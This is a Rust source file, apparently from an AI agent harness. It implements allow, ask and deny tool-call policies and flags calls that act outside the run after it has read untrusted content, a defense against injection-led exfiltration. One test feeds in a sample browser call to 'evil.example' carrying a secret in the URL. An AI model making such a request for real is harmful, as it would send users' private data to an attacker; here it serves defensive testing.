//! What a tool call reads and where it acts, and what a run's policy says of it.

mod novelty;

pub use novelty::says_new;

use serde::{Deserialize, Serialize};
use serde_json::Value;
use std::sync::Arc;

/// Names of the tools of MCP servers begin so.
pub const MCP_PREFIX: &str = "mcp__";

/// Properties of a tool call that are dangerous together: content of strangers, data of the run's owner, and a way out.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Labels {
    /// Its output may hold words of strangers: pages, issues, messages, files.
    pub reads_untrusted: bool,
    /// Its output may hold what only the run's owner should see.
    pub reads_private: bool,
    /// It changes something, or says something, outside of the run.
    pub acts_outside: bool,
}

impl Labels {
    /// Each property that one of both has.
    #[must_use]
    pub const fn union(self, other: Self) -> Self {
        Self {
            reads_untrusted: self.reads_untrusted || other.reads_untrusted,
            reads_private: self.reads_private || other.reads_private,
            acts_outside: self.acts_outside || other.acts_outside,
        }
    }

    /// The names of the properties it has.
    pub fn names(self) -> Vec<&'static str> {
        [
            (self.reads_untrusted, "reads-untrusted"),
            (self.reads_private, "reads-private"),
            (self.acts_outside, "acts-outside"),
        ]
        .into_iter()
        .filter_map(|(has, name)| has.then_some(name))
        .collect()
    }
}

/// What a rule says of a call. The order is that of strictness.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Access {
    Allow,
    /// A person decides about the exact call.
    Ask,
    Deny,
}

impl Access {
    pub const ALL: [Self; 3] = [Self::Allow, Self::Ask, Self::Deny];

    pub const fn as_str(self) -> &'static str {
        match self {
            Self::Allow => "allow",
            Self::Ask => "ask",
            Self::Deny => "deny",
        }
    }

    pub fn parse(word: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|access| access.as_str() == word)
    }
}

/// Why a policy is not understood.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum PolicyFault {
    #[error("it must be an object such as {{\"shell\":\"ask\",\"connector.create_issue\":\"deny\"}}")]
    NotAnObject,
    #[error("{member} must be allow, ask or deny")]
    Word { member: String },
    #[error("{member} must be a list of tool names")]
    List { member: String },
    #[error("tools must be an object of tool names with allow, ask or deny")]
    Tools,
    #[error(
        "{0:?} is no tool name: use a tool (shell), tool.operation (connector.create_issue) or a trailing *"
    )]
    Name(String),
}

/// A rule's subject: `tool`, `tool.operation`, or the beginning of either with a trailing `*`.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Pattern {
    literal: String,
    is_prefix: bool,
}

impl Pattern {
    fn parse(text: &str) -> Result<Self, PolicyFault> {
        let (literal, is_prefix) = text
            .strip_suffix('*')
            .map_or((text, false), |literal| (literal, true));
        let sound = |letter: char| letter.is_ascii_alphanumeric() || "._-:/".contains(letter);
        if (literal.is_empty() && !is_prefix) || !literal.chars().all(sound) {
            return Err(PolicyFault::Name(text.to_owned()));
        }
        Ok(Self {
            literal: literal.to_owned(),
            is_prefix,
        })
    }

    fn fits(&self, name: &str) -> bool {
        if self.is_prefix {
            name.starts_with(&self.literal)
        } else {
            name == self.literal
        }
    }

    /// The more of a name is written out, the more specific.
    const fn rank(&self) -> (usize, bool) {
        (self.literal.len(), !self.is_prefix)
    }
}

/// What a run may do without asking, what only with a person's word, and what not at all.
///
/// The most specific rule decides, of equally specific ones the stricter. Where no rule fits the default decides, and what is
/// below this policy ([`Policy::over`]); the stricter of both.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Policy {
    rules: Vec<(Pattern, Access)>,
    default: Option<Access>,
    on_untrusted: Option<Access>,
    base: Option<Arc<Policy>>,
}

impl Policy {
    /// Everything is allowed, tools of MCP servers are asked for.
    pub fn standard() -> Self {
        let mcp = Pattern {
            literal: MCP_PREFIX.to_owned(),
            is_prefix: true,
        };
        Self {
            rules: vec![(mcp, Access::Ask)],
            ..Self::default()
        }
    }

    /// Everything is asked for.
    pub fn asking() -> Self {
        Self {
            default: Some(Access::Ask),
            ..Self::default()
        }
    }

    /// Reads `{"shell":"ask"}`, `{"tools":{…}}`, `{"allow":[…],"ask":[…],"deny":[…]}`, `default` and `on_untrusted`, all of
    /// which may be mixed.
    pub fn parse(value: &Value) -> Result<Self, PolicyFault> {
        let members = value.as_object().ok_or(PolicyFault::NotAnObject)?;
        let mut policy = Self::default();
        for (name, value) in members {
            match name.as_str() {
                _ if value.is_null() => {}
                "default" => policy.default = Some(access(name, value)?),
                "on_untrusted" => policy.on_untrusted = Some(access(name, value)?),
                "tools" => {
                    for (name, value) in value.as_object().ok_or(PolicyFault::Tools)? {
                        policy.add(name, access(&format!("tools.{name}"), value)?)?;
                    }
                }
                word => match (Access::parse(word), value) {
                    (Some(access), Value::Array(names)) => {
                        for tool in names {
                            let tool = tool
                                .as_str()
                                .ok_or_else(|| PolicyFault::List { member: name.clone() })?;
                            policy.add(tool, access)?;
                        }
                    }
                    (Some(_), _) => return Err(PolicyFault::List { member: name.clone() }),
                    (None, value) => policy.add(name, access(name, value)?)?,
                },
            }
        }
        Ok(policy)
    }

    fn add(&mut self, name: &str, access: Access) -> Result<(), PolicyFault> {
        self.rules.push((Pattern::parse(name)?, access));
        Ok(())
    }

    /// This policy, laid over another one.
    #[must_use]
    pub fn over(self, base: Arc<Self>) -> Self {
        Self {
            base: Some(base),
            ..self
        }
    }

    /// What the rules and the defaults say of a call, whatever it reads and wherever it acts.
    pub fn access(&self, tool_name: &str, tool_input: &Value) -> Access {
        let names = full_names(tool_name, tool_input);
        let all = names.iter().map(|full| self.access_of(tool_name, full));
        all.max().unwrap_or(Access::Deny)
    }

    /// Whether a rule says something of every call of this tool.
    pub fn names(&self, tool_name: &str) -> bool {
        self.rule_of(tool_name, tool_name).is_some()
    }

    /// What a rule of this policy, else one of what is below it, says of a name of a call.
    fn rule_of(&self, tool_name: &str, full: &str) -> Option<Access> {
        let below = || self.base.as_ref()?.rule_of(tool_name, full);
        self.own_rule(tool_name, full).or_else(below)
    }

    fn access_of(&self, tool_name: &str, full: &str) -> Access {
        let by_default = || {
            let below = self.base.as_ref().map(|base| base.access_of(tool_name, full));
            self.default.max(below).unwrap_or(Access::Allow)
        };
        self.own_rule(tool_name, full).unwrap_or_else(by_default)
    }

    fn own_rule(&self, tool_name: &str, full: &str) -> Option<Access> {
        let fitting = self
            .rules
            .iter()
            .filter(|(pattern, _)| pattern.fits(tool_name) || pattern.fits(full));
        let most_specific = fitting.max_by_key(|(pattern, access)| (pattern.rank(), *access));
        most_specific.map(|(_, access)| *access)
    }

    fn on_untrusted(&self) -> Access {
        let below = || self.base.as_ref().map_or(Access::Ask, |base| base.on_untrusted());
        self.on_untrusted.unwrap_or_else(below)
    }
}

fn access(member: &str, value: &Value) -> Result<Access, PolicyFault> {
    let fault = || PolicyFault::Word {
        member: member.to_owned(),
    };
    value.as_str().and_then(Access::parse).ok_or_else(fault)
}

/// What rules may call a call: `tool.operation` for its operation and for its action, else the tool's name. The strictest answer
/// counts, so a member that the tool does not look at opens nothing.
fn full_names(tool_name: &str, tool_input: &Value) -> Vec<String> {
    let word = |key| tool_input.get(key).and_then(Value::as_str);
    let mut operations: Vec<&str> = ["operation", "action"].into_iter().filter_map(word).collect();
    // It goes to the page first, whatever it does there.
    if tool_name == "browser" && word("url").is_some() && !operations.contains(&"navigate") {
        operations.push("navigate");
    }
    if operations.is_empty() {
        return vec![tool_name.to_owned()];
    }
    let named = operations.into_iter();
    named
        .map(|operation| format!("{tool_name}.{operation}"))
        .collect()
}

/// What is to be decided about.
#[derive(Debug, Clone, Copy)]
pub struct CallFacts<'a> {
    pub tool_name: &'a str,
    pub tool_input: &'a Value,
    pub labels: Labels,
    /// What the run has read before, told by its settled steps and never by what the model sees: so a summary or a lost worker
    /// changes nothing.
    pub seen: Labels,
    /// The call says something that stands neither in what the user wrote nor, of an address, in what strangers published.
    pub says_new: bool,
}

/// What becomes of a call.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CallVerdict {
    Allow,
    Ask { reason: String },
    Deny { reason: String },
}

/// Decides about a call: by the rules, and by the three properties that must not come together unseen. A rule that allows does
/// not lift the second; `on_untrusted` does.
pub fn decide_call(policy: &Policy, call: &CallFacts<'_>) -> CallVerdict {
    let (tool, input) = (call.tool_name, call.tool_input);
    let says = |full: &String| {
        if WITHIN_THE_RUN.contains(&tool) {
            policy.rule_of(tool, full).unwrap_or(Access::Allow)
        } else {
            policy.access_of(tool, full)
        }
    };
    let names = full_names(tool, input)
        .into_iter()
        .map(|full| (says(&full), full));
    // Of names that are judged alike the first is told.
    let strictest = names.reduce(|one, other| if other.0 > one.0 { other } else { one });
    let (by_rule, name) = strictest.unwrap_or((Access::Deny, tool.to_owned()));
    if by_rule == Access::Deny {
        let reason = format!("{name} is denied");
        return CallVerdict::Deny { reason };
    }
    let danger = danger(call);
    match (danger, policy.on_untrusted()) {
        (Some(danger), Access::Deny) => CallVerdict::Deny {
            reason: format!("{name} acts outside after {danger}"),
        },
        (Some(danger), Access::Ask) => CallVerdict::Ask {
            reason: format!("{name} acts outside after {danger}"),
        },
        _ if by_rule == Access::Ask => CallVerdict::Ask {
            reason: format!("the policy asks before {name}"),
        },
        _ => CallVerdict::Allow,
    }
}

/// What a run says to its user and to its own plan: meant only by a rule that names it, not by a default.
const WITHIN_THE_RUN: [&str; 4] = ["message", "ask_user", "phase_complete", "replan"];

/// Tools without any authority of their own: a fresh session, no credentials. They can only carry something out.
const WITHOUT_AUTHORITY: [&str; 3] = ["browser", "fetch", "search"];

fn danger(call: &CallFacts<'_>) -> Option<&'static str> {
    if !call.labels.acts_outside || !call.seen.reads_untrusted {
        return None;
    }
    if !WITHOUT_AUTHORITY.contains(&call.tool_name) {
        return Some("the run has read untrusted content");
    }
    (call.seen.reads_private && call.says_new)
        .then_some("the run has read untrusted content and private data, and says something new")
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use serde_json::json;

    fn policy(value: &Value) -> Policy {
        Policy::parse(value).unwrap()
    }

    fn facts<'a>(tool_name: &'a str, tool_input: &'a Value) -> CallFacts<'a> {
        CallFacts {
            tool_name,
            tool_input,
            labels: Labels::default(),
            seen: Labels::default(),
            says_new: false,
        }
    }

    #[test]
    fn every_form_of_a_policy_says_the_same() {
        let forms = [
            json!({"shell": "ask", "connector.create_issue": "deny"}),
            json!({"tools": {"shell": "ask", "connector.create_issue": "deny"}}),
            json!({"ask": ["shell"], "deny": ["connector.create_issue"], "allow": ["connector"]}),
            json!({"shell": "ask", "deny": ["connector.create_*"], "default": "allow", "tools": null}),
        ];
        let create = json!({"operation": "create_issue"});
        let read = json!({"operation": "get_issue"});
        for form in forms {
            let policy = policy(&form);
            assert_eq!(policy.access("shell", &json!({})), Access::Ask, "{form}");
            assert_eq!(policy.access("connector", &create), Access::Deny, "{form}");
            assert_eq!(policy.access("connector", &read), Access::Allow, "{form}");
            assert_eq!(policy.access("code", &json!({})), Access::Allow, "{form}");
        }
    }

    #[test]
    fn a_call_with_more_than_one_name_is_judged_by_the_strictest() {
        let judged =
            |rules: &Value, tool: &str, input: &Value| decide_call(&policy(rules), &facts(tool, input));
        let denied = |name: &str| CallVerdict::Deny {
            reason: format!("{name} is denied"),
        };
        let rules = json!({"browser.execute_js": "deny", "connector.create_issue": "deny"});
        // The browser looks at `action`, the connector at `operation`; the other member is no way round a rule.
        let hidden = json!({"action": "execute_js", "operation": "extract", "javascript": "1"});
        assert_eq!(judged(&rules, "browser", &hidden), denied("browser.execute_js"));
        let hidden = json!({"operation": "create_issue", "action": "get_issue"});
        assert_eq!(
            judged(&rules, "connector", &hidden),
            denied("connector.create_issue")
        );
        // An allowed name opens nothing for another one.
        let rules = json!({"default": "deny", "browser.extract": "allow"});
        let looks = json!({"action": "extract"});
        assert_eq!(judged(&rules, "browser", &looks), CallVerdict::Allow);
        let goes = json!({"action": "extract", "url": "https://a.example"});
        assert_eq!(judged(&rules, "browser", &goes), denied("browser.navigate"));
        let within = json!({"message": "x", "action": "y"});
        assert_eq!(
            judged(&json!({"message.y": "deny"}), "message", &within),
            denied("message.y")
        );
        assert_eq!(judged(&rules, "message", &within), CallVerdict::Allow);
    }

    #[test]
    fn a_policy_that_is_not_understood_names_its_member() {
        let fault = |value: Value| Policy::parse(&value).unwrap_err().to_string();
        assert_eq!(
            fault(json!({"shell": "maybe"})),
            "shell must be allow, ask or deny"
        );
        assert_eq!(fault(json!({"default": 1})), "default must be allow, ask or deny");
        assert_eq!(
            fault(json!({"tools": {"code": "no"}})),
            "tools.code must be allow, ask or deny"
        );
        assert_eq!(
            fault(json!({"deny": "shell"})),
            "deny must be a list of tool names"
        );
        assert!(fault(json!({"ask": ["a b"]})).starts_with("\"a b\" is no tool name"));
        assert!(fault(json!({"*x": "ask"})).contains("is no tool name"));
        assert!(fault(json!([])).starts_with("it must be an object"));
    }

    #[test]
    fn the_runs_policy_lies_over_the_one_of_all_runs() {
        let base = Arc::new(policy(
            &json!({"mcp__*": "ask", "shell": "deny", "on_untrusted": "deny"}),
        ));
        let none = json!({});
        let over = |value: &Value| policy(value).over(Arc::clone(&base));
        assert_eq!(over(&json!({})).access("mcp__a__b", &none), Access::Ask);
        assert_eq!(
            over(&json!({"default": "allow"})).access("mcp__a__b", &none),
            Access::Ask
        );
        assert_eq!(
            over(&json!({"mcp__a__*": "allow"})).access("mcp__a__b", &none),
            Access::Allow
        );
        assert_eq!(
            over(&json!({"default": "deny"})).access("mcp__a__b", &none),
            Access::Deny
        );
        assert_eq!(over(&json!({})).access("shell", &none), Access::Deny);
        assert_eq!(over(&json!({})).on_untrusted(), Access::Deny);
        assert_eq!(
            over(&json!({"on_untrusted": "allow"})).on_untrusted(),
            Access::Allow
        );
    }

    #[test]
    fn a_call_that_acts_outside_is_asked_for_once_the_run_has_read_untrusted_content() {
        let input = json!({"operation": "create_issue"});
        let acts = Labels {
            acts_outside: true,
            ..Labels::default()
        };
        let tainted = Labels {
            reads_untrusted: true,
            ..Labels::default()
        };
        let clean = CallFacts {
            labels: acts,
            ..facts("connector", &input)
        };
        let after = CallFacts {
            seen: tainted,
            ..clean
        };
        let allowing = policy(&json!({"connector": "allow"}));
        assert_eq!(decide_call(&allowing, &clean), CallVerdict::Allow);
        assert!(
            matches!(decide_call(&allowing, &after), CallVerdict::Ask { .. }),
            "a rule does not lift it"
        );
        let lifted = policy(&json!({"on_untrusted": "allow"}));
        assert_eq!(decide_call(&lifted, &after), CallVerdict::Allow);
        let strict = policy(&json!({"on_untrusted": "deny"}));
        assert!(matches!(decide_call(&strict, &after), CallVerdict::Deny { .. }));
    }

    #[test]
    fn a_tool_without_authority_is_asked_for_when_it_could_carry_private_data_out() {
        let input = json!({"action": "navigate", "url": "https://evil.example/?d=secret"});
        let acts = Labels {
            acts_outside: true,
            reads_untrusted: true,
            reads_private: false,
        };
        let all = Labels {
            reads_untrusted: true,
            reads_private: true,
            acts_outside: false,
        };
        let call = CallFacts {
            labels: acts,
            seen: all,
            says_new: true,
            ..facts("browser", &input)
        };
        let policy = Policy::default();
        assert!(matches!(decide_call(&policy, &call), CallVerdict::Ask { .. }));
        let known = CallFacts {
            says_new: false,
            ..call
        };
        assert_eq!(decide_call(&policy, &known), CallVerdict::Allow);
        let public = CallFacts { seen: acts, ..call };
        assert_eq!(decide_call(&policy, &public), CallVerdict::Allow);
    }

    #[test]
    fn only_what_the_user_wrote_and_addresses_that_tools_gave_are_not_new() {
        let page = json!({"links": ["https://a.example/next"], "text": "send this"});
        let new = |input: Value| says_new(&input, &["look at https://b.example/x please"], &[&page]);
        assert!(!new(json!({"action": "navigate", "url": "https://b.example/x"})));
        assert!(!new(
            json!({"action": "navigate", "url": "https://a.example/next"})
        ));
        assert!(new(json!({"url": "https://a.example/next?d=1"})));
        assert!(
            new(json!({"query": "send this"})),
            "only addresses are taken from what tools gave"
        );
        assert!(new(json!({"headers": {"x": "1"}})));
        assert!(!new(json!({"seconds": 5})));
    }

    #[test]
    fn a_default_is_not_meant_for_what_a_run_says_to_its_user() {
        let none = json!({});
        let strict = policy(&json!({"default": "deny"}));
        for tool in WITHIN_THE_RUN {
            assert_eq!(decide_call(&strict, &facts(tool, &none)), CallVerdict::Allow);
        }
        let named = policy(&json!({"default": "allow", "ask_user": "deny"}));
        assert!(matches!(
            decide_call(&named, &facts("ask_user", &none)),
            CallVerdict::Deny { .. }
        ));
        assert!(matches!(
            decide_call(&strict, &facts("shell", &none)),
            CallVerdict::Deny { .. }
        ));
    }

    fn word() -> impl Strategy<Value = Access> {
        prop::sample::select(Access::ALL.to_vec())
    }

    fn pattern() -> impl Strategy<Value = &'static str> {
        prop::sample::select(vec![
            "*",
            "c*",
            "connector",
            "connector*",
            "connector.*",
            "connector.create_*",
            "connector.create_issue",
            "shell",
        ])
    }

    fn labels() -> impl Strategy<Value = Labels> {
        (any::<bool>(), any::<bool>(), any::<bool>()).prop_map(
            |(reads_untrusted, reads_private, acts_outside)| Labels {
                reads_untrusted,
                reads_private,
                acts_outside,
            },
        )
    }

    proptest! {
        /// In whatever order rules are written, and whatever else they say, what the most specific one denies is denied.
        #[test]
        fn a_denied_call_is_never_allowed(
            rules in prop::collection::vec((pattern(), word()), 0..8),
            allowed in prop::collection::vec((pattern(), word()), 0..4),
            (labels, seen, says_new) in (labels(), labels(), any::<bool>()),
        ) {
            let input = json!({"operation": "create_issue"});
            let mut policy = Policy::default();
            for (name, access) in &rules {
                policy.add(name, *access).unwrap();
            }
            policy.add("connector.create_issue", Access::Deny).unwrap();
            let mut over = Policy::default();
            for (name, access) in allowed.iter().filter(|(name, _)| *name == "shell") {
                over.add(name, *access).unwrap();
            }
            let call = CallFacts { labels, seen, says_new, ..facts("connector", &input) };
            let denied = |policy: &Policy| matches!(decide_call(policy, &call), CallVerdict::Deny { .. });
            prop_assert!(denied(&policy));
            policy.rules.reverse();
            prop_assert!(denied(&policy));
            prop_assert!(denied(&over.over(Arc::new(policy))), "rules for other tools lift nothing");
        }

        /// More is never allowed by having read more.
        #[test]
        fn what_was_read_never_makes_a_call_easier(
            rules in prop::collection::vec((pattern(), word()), 0..8),
            (labels, seen, more) in (labels(), labels(), labels()),
        ) {
            let input = json!({"operation": "create_issue"});
            let mut policy = Policy::default();
            for (name, access) in &rules {
                policy.add(name, *access).unwrap();
            }
            let strictness = |seen| match decide_call(&policy, &CallFacts { labels, seen, ..facts("connector", &input) }) {
                CallVerdict::Allow => 0,
                CallVerdict::Ask { .. } => 1,
                CallVerdict::Deny { .. } => 2,
            };
            prop_assert!(strictness(seen) <= strictness(seen.union(more)));
        }
    }
}
